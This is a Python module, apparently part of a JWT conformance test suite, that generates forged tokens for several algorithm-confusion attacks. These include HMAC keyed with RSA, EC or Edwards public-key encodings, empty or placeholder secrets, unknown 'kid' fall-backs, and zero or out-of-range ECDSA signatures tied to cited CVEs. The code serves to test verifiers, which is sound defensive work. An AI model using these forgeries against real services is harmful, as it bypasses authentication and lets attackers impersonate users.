"""Algorithm confusion: HMAC over what everyone knows, and ECDSA signatures that fit no message.

Sources: RFC 8725 sections 3.1 and 3.4, CVE-2015-9235, CVE-2017-11424, CVE-2022-21449, CVE-2022-29217, CVE-2026-34950.
"""

from __future__ import annotations

from collections.abc import Callable, Iterable, Iterator

from conformance.attacks import jwt, keys
from conformance.attacks.families.spelling import order_of
from conformance.attacks.keys import Encoding, PublicKey
from conformance.attacks.material import Forgery, Material

UNKNOWN_KID = "pickproof-no-such-key"

EMPTY_SECRETS = (
    ("empty secret", b""),
    ("secret undefined", b"undefined"),
    ("secret null", b"null"),
    ("secret None", b"None"),
    ("secret 0", b"0"),
)
"""What a missing setting becomes as a secret. NUL bytes are left out: HMAC pads with them, so they equal empty."""


def _hmac(m: Material, encodings: Iterable[Encoding], alg: str = "HS256") -> Iterator[Forgery]:
    header = m.header({"alg": alg})
    for encoding in encodings:
        raw = jwt.signed(header, m.payload, alg, encoding.data)
        yield Forgery(f"{alg} with {encoding.name}", raw, f"identity changed, {alg} keyed with the {encoding.name}")


def _rsa_only(encode: Callable[[PublicKey], Iterable[Encoding]]) -> Callable[[Material], Iterator[Forgery]]:
    """A family that signs with encodings of an RSA key; EC keys have a family of their own."""

    def family(m: Material) -> Iterator[Forgery]:
        if m.key is not None and m.key.kty == "RSA":
            yield from _hmac(m, encode(m.key))

    return family


def pem(m: Material) -> Iterator[Forgery]:
    """HMAC over the SPKI PEM (CVE-2015-9235)."""
    if m.key is None or m.key.kty != "RSA":
        return
    encodings = keys.spki_encodings(m.key)
    yield from _hmac(m, encodings)
    for alg in ("HS384", "HS512"):
        yield from _hmac(m, encodings[:1], alg)


def elliptic(m: Material) -> Iterator[Forgery]:
    """HMAC over every encoding of an EC or Edwards key."""
    if m.key is None or m.key.kty == "RSA":
        return
    yield from _hmac(m, keys.spki_encodings(m.key))
    for encode, members in ((keys.ssh_encodings, 4), (keys.jwk_encodings, 6), (keys.der_encodings, 1)):
        yield from _hmac(m, encode(m.key)[:members])
    yield from _hmac(m, keys.prefixed_encodings(m.key))
    for alg in ("HS384", "HS512"):
        yield from _hmac(m, keys.spki_encodings(m.key)[:1], alg)


def hs_empty(m: Material) -> Iterator[Forgery]:
    """HMAC with the secret of a setting that is missing (CVE-2019-20933)."""
    yield from _hmac(m, (Encoding(name, secret) for name, secret in EMPTY_SECRETS), m.hmac_alg)
    longer = "HS512" if m.hmac_alg != "HS512" else "HS256"
    yield from _hmac(m, (Encoding(*EMPTY_SECRETS[0]),), longer)


def hs_unknown_kid(m: Material) -> Iterator[Forgery]:
    """A ``kid`` that names no key: what the look-up falls back to must not be an empty secret."""
    alg = m.hmac_alg
    for name, header in (
        ("unknown kid, empty secret", m.header({"alg": alg, "kid": UNKNOWN_KID})),
        ("empty kid, empty secret", m.header({"alg": alg, "kid": ""})),
    ):
        yield Forgery(name, jwt.signed(header, m.payload, alg, b""), f"{alg} keyed with nothing, identity changed")


def es_zero(m: Material) -> Iterator[Forgery]:
    """ECDSA signatures of numbers out of range (CVE-2022-21449): any message fits a verifier without the test."""
    curve = order_of(m.genuine.alg)
    if curve is None:
        return
    width, n = curve
    pairs = (
        ("0, 0", 0, 0),
        ("n, n", n, n),
        ("0, 1", 0, 1),
        ("1, 0", 1, 0),
        ("0, n", 0, n),
        ("n, 1", n, 1),
        ("1, n", 1, n),
    )
    for name, r, s in pairs:
        raw = jwt.compact(m.genuine.header_raw, m.payload, r.to_bytes(width, "big") + s.to_bytes(width, "big"))
        yield Forgery(f"r, s = {name}", raw, "identity changed, signature of these two numbers")
    der = jwt.compact(m.genuine.header_raw, m.payload, bytes.fromhex("3006020100020100"))
    yield Forgery("r, s = 0, 0 in DER", der, "identity changed, ASN.1 sequence of two zeros")


FAMILIES = {
    "token.alg.rs-to-hs.pem": pem,
    "token.alg.rs-to-hs.pkcs1": _rsa_only(keys.pkcs1_encodings),
    "token.alg.rs-to-hs.der": _rsa_only(keys.der_encodings),
    "token.alg.rs-to-hs.jwk": _rsa_only(keys.jwk_encodings),
    "token.alg.rs-to-hs.ssh": _rsa_only(keys.ssh_encodings),
    "token.alg.rs-to-hs.prefix": _rsa_only(keys.prefixed_encodings),
    "token.alg.es-to-hs": elliptic,
    "token.alg.hs-empty": hs_empty,
    "token.alg.hs-unknown-kid": hs_unknown_kid,
    "token.alg.es-zero": es_zero,
}
